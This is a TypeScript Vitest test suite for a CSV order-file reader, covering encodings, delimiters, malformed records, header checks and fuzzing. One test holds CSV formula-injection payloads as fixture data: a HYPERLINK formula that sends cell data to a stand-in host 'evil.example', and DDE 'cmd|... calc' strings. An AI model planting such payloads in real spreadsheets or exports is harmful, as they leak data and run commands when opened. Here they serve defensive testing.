import { appendFile, mkdir, mkdtemp, rm, utimes, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { parse as parseSync } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { InputFileError } from "../../src/errors.js";
import {
  type InputInfo,
  inspectInput,
  type ReadOptions,
  readRows,
} from "../../src/input/read-rows.js";
import { RecordScanner, ScanError } from "../../src/input/scan-records.js";
import type { SourceRow } from "../../src/types.js";

const fixture = (name: string): string =>
  fileURLToPath(new URL(`../fixtures/${name}`, import.meta.url));

async function collect(info: InputInfo, options?: ReadOptions): Promise<SourceRow[]> {
  const rows: SourceRow[] = [];
  for await (const row of readRows(info, options)) rows.push(row);
  return rows;
}

async function readAll(
  file: string,
  options: ReadOptions = {},
): Promise<{ info: InputInfo; rows: SourceRow[] }> {
  const info = await inspectInput(file, options);
  const rows = await collect(info, options);
  // Both passes agree: the count inspectInput announced is what readRows yields.
  expect(rows).toHaveLength(info.rowCount);
  return { info, rows };
}

async function inspectError(file: string, options: ReadOptions = {}): Promise<InputFileError> {
  const error = await inspectInput(file, options).then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(InputFileError);
  return error as InputFileError;
}

const lines = (rows: readonly SourceRow[]): number[] => rows.map((row) => row.line);
const column = (rows: readonly SourceRow[], name: keyof SourceRow["values"]): unknown[] =>
  rows.map((row) => row.values[name]);

let tmp: string;
beforeAll(async () => {
  tmp = await mkdtemp(join(tmpdir(), "read-rows-"));
});
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

describe("encodings", () => {
  it("reads UTF-8 with a BOM, which is not part of the first header name", async () => {
    const { info, rows } = await readAll(fixture("utf8-bom.csv"));
    expect(info).toMatchObject({ encoding: "utf-8", encodingSource: "bom", bom: true });
    expect(info.headerCells[0]).toBe("order_id");
    expect(info.columns).toEqual(["order_id", "staff_notes", "billing_last_name"]);
    expect(column(rows, "billing_last_name")).toEqual(["Müller", "Øster"]);
    expect(column(rows, "staff_notes")).toEqual(["Entregado a Peña", "Zoë's order, gift-wrapped"]);
    expect(info.warnings).toEqual([]);
  });

  it("reads Excel's UTF-16LE tab-delimited export", async () => {
    const { info, rows } = await readAll(fixture("utf16le-tab-export.csv"));
    expect(info).toMatchObject({
      encoding: "utf-16le",
      encodingSource: "bom",
      bom: true,
      delimiter: "\t",
      rowCount: 3,
    });
    expect(info.headerCells).toEqual(["order_id", "status_id", "staff_notes", "billing_city"]);
    expect(column(rows, "billing_city")).toEqual(["München", "Kraków", "Tōkyō"]);
    expect(column(rows, "staff_notes")).toEqual([
      "Packed by Ana",
      "Note with\ttab",
      "日本語のメモ 📦",
    ]);
    expect(lines(rows)).toEqual([2, 3, 4]);
  });

  it("reads UTF-16BE with a BOM, surrogate pairs included", async () => {
    const { info, rows } = await readAll(fixture("utf16be-bom.csv"));
    expect(info).toMatchObject({ encoding: "utf-16be", encodingSource: "bom", delimiter: "," });
    expect(column(rows, "staff_notes")).toEqual(["Größe L 📦", "Ça va"]);
  });

  it("detects UTF-16LE without a BOM and says so", async () => {
    const { info, rows } = await readAll(fixture("utf16le-no-bom.csv"));
    expect(info).toMatchObject({ encoding: "utf-16le", encodingSource: "detected", bom: false });
    expect(column(rows, "order_id")).toEqual(["12345"]);
    expect(info.warnings).toHaveLength(1);
    expect(info.warnings[0]).toContain("UTF-16LE");
  });

  it("decodes a file that is not UTF-8 as Windows-1252 and warns with the first bad line", async () => {
    const file = fixture("windows-1252-accents.csv");
    const { info, rows } = await readAll(file);
    expect(info).toMatchObject({
      encoding: "windows-1252",
      encodingSource: "fallback",
      bom: false,
    });
    expect(info.warnings).toEqual([
      `${file} is not valid UTF-8 (first bad byte at line 3); decoded as Windows-1252`,
    ]);
    expect(column(rows, "billing_first_name")).toEqual(["Juan", "José", "Jürgen"]);
    expect(column(rows, "billing_last_name")).toEqual(["Perez", "Peña", "Müller"]);
    expect(column(rows, "staff_notes")).toEqual(["plain", "Entrega 5€", "Straße"]);
    for (const row of rows) expect(row.cells.join("")).not.toContain("\uFFFD");
  });

  it("falls back to Windows-1252 when the header itself is not UTF-8", async () => {
    const columnMap = { "Nº pedido": "order_id", Transportista: "shipping_provider" };
    const { info, rows } = await readAll(fixture("windows-1252-header.csv"), { columnMap });
    expect(info).toMatchObject({
      encoding: "windows-1252",
      encodingSource: "fallback",
      delimiter: ";",
    });
    expect(info.headerCells).toEqual(["Nº pedido", "Transportista", "tracking_number"]);
    expect(info.warnings[0]).toContain("line 1");
    expect(rows[0]?.values).toEqual({
      order_id: "12345",
      shipping_provider: "ups",
      tracking_number: "1Z999AA10123456784",
    });
  });

  it("reads a forced Windows-1252 file without a warning", async () => {
    const { info, rows } = await readAll(fixture("windows-1252-accents.csv"), {
      encoding: "windows-1252",
    });
    expect(info).toMatchObject({ encoding: "windows-1252", encodingSource: "forced" });
    expect(info.warnings).toEqual([]);
    expect(column(rows, "billing_last_name")).toEqual(["Perez", "Peña", "Müller"]);
  });

  it("rejects bytes that are not UTF-8 when UTF-8 is forced", async () => {
    const error = await inspectError(fixture("windows-1252-accents.csv"), { encoding: "utf-8" });
    expect(error.code).toBe("E_ENCODING");
    expect(error.line).toBe(3);
    expect(error.message).toContain("0xE9");
  });

  it("makes a row invalid, not the file, for bytes that are not UTF-8 when the BOM says UTF-8", async () => {
    const { info, rows } = await readAll(fixture("utf8-bom-invalid-byte.csv"));
    expect(info).toMatchObject({ encoding: "utf-8", encodingSource: "bom", rowCount: 2 });
    expect(rows.map((row) => [row.line, row.structureProblem?.code])).toEqual([
      [2, undefined],
      [3, "E_INVALID_UTF8"],
    ]);
    expect(rows[1]?.structureProblem).toMatchObject({ column: "staff_notes" });
    // Line 3, field 2, the byte at offset 43 of the file (BOM included).
    expect(rows[1]?.structureProblem?.message).toContain("0xFF");
    expect(rows[1]?.structureProblem?.message).toContain("line 3");
    expect(rows[1]?.structureProblem?.message).toContain("43");
    expect(info.warnings).toHaveLength(1);
  });

  it("rejects a forced encoding that contradicts the BOM", async () => {
    const error = await inspectError(fixture("utf16le-tab-export.csv"), { encoding: "utf-8" });
    expect(error.code).toBe("E_ENCODING");
  });

  it("rejects an unpaired UTF-16 surrogate with its line", async () => {
    const file = join(tmp, "lone-surrogate.csv");
    const text = Buffer.from("order_id,staff_notes\r\n1,ok\r\n2,bad ", "utf16le");
    const lone = Buffer.from([0x00, 0xd8]); // U+D800 without its low half
    await writeFile(
      file,
      Buffer.concat([Buffer.from([0xff, 0xfe]), text, lone, Buffer.from(" x\r\n", "utf16le")]),
    );
    const error = await inspectError(file);
    expect(error.code).toBe("E_ENCODING");
    expect(error.line).toBe(3);
  });

  it("rejects a UTF-16 file with an odd number of bytes", async () => {
    const file = join(tmp, "odd-utf16.csv");
    await writeFile(
      file,
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from("order_id\r\n1\r\n", "utf16le"),
        Buffer.from([0x41]),
      ]),
    );
    expect((await inspectError(file)).code).toBe("E_ENCODING");
  });
});

describe("delimiters and line endings", () => {
  it("detects semicolons and keeps commas inside values", async () => {
    const { info, rows } = await readAll(fixture("semicolon-comma-values.csv"));
    expect(info.delimiter).toBe(";");
    expect(column(rows, "staff_notes")).toEqual([
      "Packed, fragile",
      "Quoted; with semicolon",
      "Total 12,50 €",
    ]);
    expect(column(rows, "billing_street")).toEqual(["Calle Mayor 1, 2º", "Rue de la Paix, 12", ""]);
  });

  it("uses a forced delimiter even when another one resolves the header", async () => {
    const error = await inspectError(fixture("semicolon-comma-values.csv"), { delimiter: "," });
    expect(error.code).toBe("E_HEADER_UNKNOWN");
  });

  it("rejects a header whose delimiter cannot be told", async () => {
    const error = await inspectError(fixture("ambiguous-delimiter.csv"));
    expect(error.code).toBe("E_DELIMITER");
    expect(error.line).toBe(1);
  });

  it.each([
    { name: "crlf.csv", ids: ["12345", "12346", "12347"], expectedLines: [2, 3, 5] },
    {
      name: "mixed-line-endings.csv",
      ids: ["12345", "12346", "12347", "12348"],
      expectedLines: [2, 3, 4, 5],
    },
    { name: "cr-only.csv", ids: ["12345", "12346"], expectedLines: [2, 3] },
  ])("reads $name with the right lines", async ({ name, ids, expectedLines }) => {
    const { rows } = await readAll(fixture(name));
    expect(column(rows, "order_id")).toEqual(ids);
    expect(lines(rows)).toEqual(expectedLines);
    for (const row of rows) expect(row.cells.join("|")).not.toMatch(/^\n|\r$|\n$/);
  });

  it("keeps a CRLF inside a quoted field and counts it as one line", async () => {
    const { rows } = await readAll(fixture("crlf.csv"));
    expect(rows[1]?.values.staff_notes).toBe("two\r\nlines");
  });

  it("numbers records after embedded newlines, blank lines and quotes by their first line", async () => {
    const { rows } = await readAll(fixture("embedded-newlines.csv"));
    expect(rows.map((row) => [row.index, row.line, row.values.order_id])).toEqual([
      [1, 2, "12345"],
      [2, 4, "12346"],
      [3, 7, "12347"],
      [4, 9, "12348"],
    ]);
    expect(column(rows, "staff_notes")).toEqual([
      "first line\nsecond line",
      "plain",
      "",
      'x "quoted" y',
    ]);
    expect(rows[1]?.values.customer_message).toBe("a, b\r\nc\r\nd");
  });

  it("counts blank lines before the header", async () => {
    const { rows } = await readAll(fixture("leading-blank-lines.csv"));
    expect(lines(rows)).toEqual([4]);
  });
});

describe("records", () => {
  it("turns ragged records into rows with E_FIELD_COUNT and keeps the others", async () => {
    const { info, rows } = await readAll(fixture("ragged-rows.csv"));
    expect(rows.map((row) => [row.line, row.structureProblem?.code])).toEqual([
      [2, undefined],
      [3, "E_FIELD_COUNT"],
      [4, "E_FIELD_COUNT"],
      [5, undefined],
    ]);
    expect(rows[1]?.structureProblem?.message).toBe("expected 3 fields, found 2");
    expect(rows[2]?.structureProblem?.message).toBe("expected 3 fields, found 4");
    expect(rows[1]?.values).toEqual({ order_id: "12346", status_id: "2" });
    expect(rows[2]?.cells).toEqual(["12347", "2", "ok", "extra"]);
    expect(info.warnings.join("\n")).toContain("first at line 3");
  });

  it("skips Excel's all-empty rows and says how many", async () => {
    const { info, rows } = await readAll(fixture("excel-trailing-empty-rows.csv"));
    expect(rows.map((row) => [row.index, row.line, row.values.order_id])).toEqual([
      [1, 2, "12345"],
      [2, 4, "12346"],
    ]);
    expect(info.rowCount).toBe(2);
    expect(info.warnings).toHaveLength(1);
    expect(info.warnings[0]).toContain("skipped 3 rows");
    expect(info.warnings[0]).toContain("line 3");
  });

  it("reads formula payloads verbatim", async () => {
    const { rows } = await readAll(fixture("formula-payloads.csv"));
    expect(rows[0]?.values).toEqual({
      order_id: "12345",
      staff_notes: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      customer_message: "+cmd|' /C calc'!A0",
      billing_company: "@SUM(1+1)",
    });
    expect(rows[1]?.cells).toEqual(["12346", "-2+3", "=1+1", "=cmd|'/c calc'!A1"]);
    // Cells that start with a tab or a CR (quoted), and a full-width equals sign.
    expect(rows[2]?.cells).toEqual(["12347", "\tTab first", "\rCR first", "\uFF1D1+2"]);
    expect(lines(rows)).toEqual([2, 3, 4]);
  });

  it("reads scientific notation and leading zeros as text, untrimmed", async () => {
    const { rows } = await readAll(fixture("tracking-numbers-as-text.csv"));
    expect(column(rows, "tracking_number")).toEqual([
      "9.40011E+21",
      "00340434161094042557",
      " 1Z999AA10123456784 ",
      "0012",
      "00777",
      "9,40011E+21",
    ]);
    expect(column(rows, "order_address_id")).toEqual(["1001", "001009", "", "1003", "1e3", ""]);
  });

  it("reads a stray quote inside a field on one line as written", async () => {
    const { rows } = await readAll(fixture("relaxed-quotes.csv"));
    expect(rows[0]?.cells).toEqual(["12345", '"Fragile" box', '5" screen']);
    expect(rows[1]?.cells).toEqual(["12346", 'Say "hi"', "ok"]);
  });

  it("rejects a quote left open mid-file at the line where it opens", async () => {
    const error = await inspectError(fixture("unclosed-quote-mid-file.csv"));
    expect(error.code).toBe("E_CSV_SYNTAX");
    expect(error.line).toBe(3);
    expect(error.column).toBe("2");
    expect(error.message).toContain("line 5");
  });

  it("rejects a quote left open to the end of the file", async () => {
    const error = await inspectError(fixture("unclosed-quote-at-end.csv"));
    expect(error.code).toBe("E_CSV_SYNTAX");
    expect(error.line).toBe(3);
    expect(error.column).toBe("2");
  });

  it("reads a 10 MB field whole", async () => {
    const file = join(tmp, "big-field.csv");
    const big = "x".repeat(10 * 1024 * 1024);
    await writeFile(file, `order_id,staff_notes\n1,${big}\n2,after\n`);
    const { rows } = await readAll(file);
    expect(rows.map((row) => row.values.staff_notes?.length)).toEqual([big.length, 5]);
    expect(lines(rows)).toEqual([2, 3]);
  });

  it("rejects a record over maxRecordBytes with its line", async () => {
    const file = join(tmp, "too-large.csv");
    await writeFile(
      file,
      `order_id,staff_notes\n1,ok\n2,"${"y".repeat(3000)}\n${"z".repeat(3000)}"\n3,ok\n`,
    );
    const error = await inspectError(file, { maxRecordBytes: 4096 });
    expect(error.code).toBe("E_RECORD_TOO_LARGE");
    expect(error.line).toBe(3);
    const { rows } = await readAll(file, { maxRecordBytes: 8192 });
    expect(lines(rows)).toEqual([2, 3, 5]);
  });

  it("rejects a header over maxRecordBytes", async () => {
    const file = join(tmp, "huge-header.csv");
    await writeFile(file, `order_id,${"h".repeat(200_000)}\n1,2\n`);
    const error = await inspectError(file, { maxRecordBytes: 100_000 });
    expect(error.code).toBe("E_RECORD_TOO_LARGE");
    expect(error.line).toBe(1);
  });
});

describe("header", () => {
  it.each([
    { name: "duplicate-column.csv", code: "E_HEADER_DUPLICATE", col: "Order_ID" },
    { name: "unknown-column.csv", code: "E_HEADER_UNKNOWN", col: "tracking_numbr" },
    { name: "proto-column.csv", code: "E_HEADER_FORBIDDEN", col: "__proto__" },
    { name: "no-order-id.csv", code: "E_HEADER_NO_ORDER_ID", col: "order_id" },
    { name: "empty-header-name.csv", code: "E_HEADER_EMPTY_NAME", col: "2" },
    { name: "extra-column-reserved.csv", code: "E_HEADER_UNKNOWN", col: "result" },
  ])("rejects $name with $code", async ({ name, code, col }) => {
    const error = await inspectError(fixture(name));
    expect(error.code).toBe(code);
    expect(error.line).toBe(1);
    expect(error.column).toBe(col);
  });

  it("suggests the nearest column for an unknown one", async () => {
    const error = await inspectError(fixture("unknown-column.csv"));
    expect(error).toMatchObject({ code: "E_HEADER_UNKNOWN", column: "tracking_numbr" });
    // The message offers the known column nearest to the one the file gives.
    expect(error.message).toContain('"tracking_number"');
  });

  it("refuses __proto__ even with extra columns allowed", async () => {
    const error = await inspectError(fixture("proto-column.csv"), { allowExtraColumns: true });
    expect(error.code).toBe("E_HEADER_FORBIDDEN");
  });

  it("refuses an extra column named like a results column", async () => {
    const error = await inspectError(fixture("extra-column-reserved.csv"), {
      allowExtraColumns: true,
    });
    expect(error.code).toBe("E_HEADER_RESERVED");
  });

  it("renames columns with the column map and keeps extra columns when allowed", async () => {
    const columnMap = {
      "order number": "order_id",
      Tracking: "tracking_number",
      CARRIER: "tracking_carrier",
    };
    const { info, rows } = await readAll(fixture("mapped-headers.csv"), {
      columnMap,
      allowExtraColumns: true,
    });
    expect(info.headerCells).toEqual(["Order Number", "Tracking", "Carrier", "Warehouse"]);
    expect(info.columns).toEqual(["order_id", "tracking_number", "tracking_carrier", undefined]);
    expect(rows[0]?.values).toEqual({
      order_id: "12345",
      tracking_number: "1Z999AA10123456784",
      tracking_carrier: "ups",
    });
    expect(rows[0]?.cells).toEqual(["12345", "1Z999AA10123456784", "ups", "A"]);
  });

  it("still refuses the unmapped extra column without allowExtraColumns", async () => {
    const columnMap = {
      "Order Number": "order_id",
      Tracking: "tracking_number",
      Carrier: "tracking_carrier",
    };
    const error = await inspectError(fixture("mapped-headers.csv"), { columnMap });
    expect(error.code).toBe("E_HEADER_UNKNOWN");
    expect(error.column).toBe("Warehouse");
  });

  it("warns about a column map entry that matches nothing", async () => {
    const { info } = await readAll(fixture("header-only.csv"), { columnMap: { Ref: "order_id" } });
    expect(info.warnings).toHaveLength(1);
    expect(info.warnings[0]).toContain('"Ref"');
  });

  it("keeps extra columns in cells but not in values", async () => {
    const { info, rows } = await readAll(fixture("extra-columns.csv"), { allowExtraColumns: true });
    expect(info.columns).toEqual(["order_id", undefined, "status_id", undefined]);
    expect(rows[0]?.values).toEqual({ order_id: "12345", status_id: "2" });
    expect(rows[0]?.cells).toEqual(["12345", "A", "2", "Ana"]);
  });
});

describe("files", () => {
  it("rejects an empty file", async () => {
    const error = await inspectError(fixture("empty.csv"));
    expect(error.code).toBe("E_FILE_EMPTY");
  });

  it.each([
    { name: "a BOM only", data: Buffer.from([0xef, 0xbb, 0xbf]) },
    { name: "blank lines only", data: Buffer.from("\r\n\n\r\n") },
  ])("rejects a file with $name as empty", async ({ name, data }) => {
    const file = join(tmp, `${name.replaceAll(" ", "-")}.csv`);
    await writeFile(file, data);
    expect((await inspectError(file)).code).toBe("E_FILE_EMPTY");
  });

  it("accepts a header without rows", async () => {
    const { info, rows } = await readAll(fixture("header-only.csv"));
    expect(info.rowCount).toBe(0);
    expect(rows).toEqual([]);
  });

  it("reads the sample file", async () => {
    const { info, rows } = await readAll(
      fileURLToPath(new URL("../../samples/orders.csv", import.meta.url)),
    );
    expect(info.rowCount).toBe(16);
    expect(rows.at(-1)).toMatchObject({ index: 16, line: 17 });
  });

  it("rejects a missing file", async () => {
    const error = await inspectError(join(tmp, "does-not-exist.csv"));
    expect(error.code).toBe("E_FILE_UNREADABLE");
    expect(error.cause).toBeDefined();
  });

  it("rejects a directory", async () => {
    const dir = join(tmp, "a-directory.csv");
    await mkdir(dir, { recursive: true });
    expect((await inspectError(dir)).code).toBe("E_FILE_UNREADABLE");
  });

  it("refuses to read a file that changed after inspection", async () => {
    const file = join(tmp, "changing.csv");
    await writeFile(file, "order_id,status_id\n1,2\n");
    const info = await inspectInput(file);
    await appendFile(file, "2,3\n");
    const error = await collect(info).then(
      () => undefined,
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(InputFileError);
    expect((error as InputFileError).code).toBe("E_FILE_CHANGED");
  });

  it("notices a file rewritten with the same size and row count", async () => {
    const file = join(tmp, "rewritten.csv");
    await writeFile(file, "order_id,status_id\n1,2\n");
    const info = await inspectInput(file);
    await writeFile(file, "order_id,status_id\n1,5\n");
    await utimes(file, new Date(), new Date(Date.now() + 60_000));
    const error = await collect(info).then(
      () => undefined,
      (caught: unknown) => caught,
    );
    expect(error).toMatchObject({ code: "E_FILE_CHANGED" });
  });

  it("checks the row count at the end when the info carries no fingerprint", async () => {
    const info = await inspectInput(fixture("crlf.csv"));
    const copy: InputInfo = { ...info, rowCount: info.rowCount + 1 };
    const rows: SourceRow[] = [];
    const error = await (async () => {
      for await (const row of readRows(copy)) rows.push(row);
    })().then(
      () => undefined,
      (caught: unknown) => caught,
    );
    expect(rows).toHaveLength(info.rowCount);
    expect(error).toMatchObject({ code: "E_FILE_CHANGED" });
  });

  it("returns frozen info", async () => {
    const info = await inspectInput(fixture("crlf.csv"));
    expect(Object.isFrozen(info)).toBe(true);
    expect(Object.isFrozen(info.columns)).toBe(true);
  });
});

describe("cancellation", () => {
  it("does not start with an aborted signal", async () => {
    const controller = new AbortController();
    controller.abort();
    await expect(inspectInput(fixture("crlf.csv"), {}, controller.signal)).rejects.toMatchObject({
      name: "AbortError",
    });
    const info = await inspectInput(fixture("crlf.csv"));
    await expect(readRows(info, {}, controller.signal).next()).rejects.toMatchObject({
      name: "AbortError",
    });
  });

  it("stops yielding rows once the signal is aborted", async () => {
    const file = join(tmp, "abort.csv");
    await writeFile(
      file,
      `order_id\n${Array.from({ length: 1000 }, (_, i) => i + 1).join("\n")}\n`,
    );
    const info = await inspectInput(file);
    const controller = new AbortController();
    const seen: number[] = [];
    const reading = (async () => {
      for await (const row of readRows(info, {}, controller.signal)) {
        seen.push(row.index);
        if (row.index === 10) controller.abort();
      }
    })();
    await expect(reading).rejects.toMatchObject({ name: "AbortError" });
    expect(seen).toEqual(Array.from({ length: 10 }, (_, i) => i + 1));
  });
});

describe("both passes agree", () => {
  it("on a file larger than the read chunks, with rows spanning chunk boundaries", async () => {
    const file = join(tmp, "many-rows.csv");
    const parts = ["order_id,staff_notes,customer_message\r\n"];
    const expectedLines: number[] = [];
    let line = 2;
    for (let i = 1; i <= 60_000; i++) {
      expectedLines.push(line);
      if (i % 7 === 0) {
        parts.push(`${i},"note ${i}\r\nline two\nline three",x\r\n`);
        line += 3;
      } else if (i % 11 === 0) {
        parts.push(`${i},plain,\n\n`);
        line += 2;
      } else {
        parts.push(`${i},"a ""q"", b",${"m".repeat(i % 50)}\r\n`);
        line += 1;
      }
    }
    await writeFile(file, parts.join(""));
    const { info, rows } = await readAll(file);
    expect(info.rowCount).toBe(60_000);
    expect(lines(rows)).toEqual(expectedLines);
    expect(rows[6]?.values.staff_notes).toBe("note 7\r\nline two\nline three");
  });

  // Random CSV text from the characters that matter to the structure. Records and start lines from
  // inspectInput (our scanner) and readRows (csv-parse) must match csv-parse's own record offsets.
  it("on generated files, against csv-parse's record offsets", async () => {
    // mulberry32: a fixed seed keeps the cases the same on every run.
    let seed = 12345;
    const random = (n: number): number => {
      seed = (seed + 0x6d2b79f5) >>> 0;
      let t = seed;
      t = Math.imul(t ^ (t >>> 15), t | 1);
      t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
      return Math.floor((((t ^ (t >>> 14)) >>> 0) / 4294967296) * n);
    };
    const pieces = [
      "a",
      "b",
      ",",
      ",",
      '"',
      '""',
      "\n",
      "\r\n",
      "\r",
      " ",
      ";",
      "é",
      '",',
      ',"',
      "\n\n",
    ];
    let accepted = 0;
    let rejected = 0;
    for (let round = 0; round < 300; round++) {
      const body = Array.from({ length: 1 + random(40) }, () => pieces[random(pieces.length)]).join(
        "",
      );
      const text = `order_id,staff_notes,customer_message\n${body}`;
      const file = join(tmp, `fuzz-${round}.csv`);
      await writeFile(file, text);
      const info = await inspectInput(file).catch((error: unknown) => {
        expect(error).toBeInstanceOf(InputFileError);
        expect((error as InputFileError).code).toBe("E_CSV_SYNTAX");
        return undefined;
      });
      if (info === undefined) {
        rejected++;
        continue;
      }
      accepted++;
      const rows = await collect(info);
      const expected = recordsByOffsets(text)
        .slice(1)
        .filter((r) => r.cells.some((c) => c !== ""));
      expect(
        rows.map((row) => [row.line, row.cells]),
        JSON.stringify(text),
      ).toEqual(expected.map((r) => [r.line, r.cells]));
      expect(info.rowCount).toBe(rows.length);
    }
    // Both outcomes are exercised, so neither half of the comparison is vacuous.
    expect(accepted).toBeGreaterThan(80);
    expect(rejected).toBeGreaterThan(80);
  });

  it("scanner: the same records however the bytes are split into chunks", () => {
    const text = Buffer.from(
      'order_id,staff_notes\r\n1,"a\r\nb"\r\n\r\n2,"x""y"\r3,""\n"q"\r\n,\r\n4,"end"',
    );
    const scan = (splits: number[]): string[] => {
      const out: string[] = [];
      const scanner = new RecordScanner(",", 1_000, (line, fields, empty) => {
        out.push(`${line}:${fields}:${empty}`);
      });
      let at = 0;
      for (const split of [...splits, text.length]) {
        scanner.write(text.subarray(at, split));
        at = split;
      }
      scanner.end();
      return out;
    };
    const whole = scan([]);
    expect(whole).toEqual([
      "1:2:false",
      "2:2:false",
      "5:2:false",
      "6:2:false",
      "7:1:false",
      "8:2:true",
      "9:2:false",
    ]);
    for (let a = 1; a < text.length; a++) {
      expect(scan([a]), `split at ${a}`).toEqual(whole);
      for (let b = a + 1; b < text.length; b += 5) expect(scan([a, b])).toEqual(whole);
    }
  });

  it("scanner: a runaway quote is found whatever the chunk size", () => {
    const text = Buffer.from('order_id,staff_notes\n1,"open\n2,x\n3,"y"\n');
    for (let size = 1; size <= text.length; size++) {
      const scanner = new RecordScanner(",", 1_000, () => {});
      let caught: unknown;
      try {
        for (let at = 0; at < text.length; at += size) scanner.write(text.subarray(at, at + size));
        scanner.end();
      } catch (error) {
        caught = error;
      }
      expect(caught, `chunks of ${size}`).toBeInstanceOf(ScanError);
      expect((caught as ScanError).problem).toMatchObject({
        kind: "runaway-quote",
        line: 2,
        field: 2,
        closeLine: 4,
      });
    }
  });
});

/** Records of `text` by csv-parse, each with the line where it starts, from its end offsets. */
function recordsByOffsets(text: string): { line: number; cells: string[] }[] {
  const records = parseSync(text, {
    relax_column_count: true,
    relax_quotes: true,
    skip_empty_lines: true,
    record_delimiter: ["\r\n", "\n", "\r"],
    info: true,
  }) as unknown as { record: string[]; info: { bytes: number } }[];
  const bytes = Buffer.from(text);
  let start = 0;
  return records.map(({ record, info }) => {
    while (bytes[start] === 0x0d || bytes[start] === 0x0a) start++;
    const before = bytes.subarray(0, start).toString();
    const line = 1 + (before.match(/\r\n|\r|\n/g)?.length ?? 0);
    start = info.bytes;
    return { line, cells: record };
  });
}
